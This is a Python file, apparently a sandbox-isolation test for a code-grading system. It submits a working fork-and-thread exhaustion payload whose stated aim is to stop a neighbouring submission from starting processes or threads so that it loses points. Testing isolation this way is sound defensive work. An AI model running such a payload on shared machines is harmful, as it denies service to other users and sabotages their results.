"""Starts as many threads as it can in each of several processes, and keeps them.

Success: a neighbor's code can start no process or thread and loses points.
"""

ALONE = True


def attack(submission):
    submission.first(
        """
        import os, threading, time

        def start():
            threading.stack_size(65536)
            while True:
                try:
                    threading.Thread(target=time.sleep, args=(25,), daemon=True).start()
                except RuntimeError:
                    return

        for _ in range(4):
            try:
                if not os.fork():
                    start()
                    time.sleep(25)
                    os._exit(0)
            except OSError:
                break
        start()
        time.sleep(20)
    """
    )
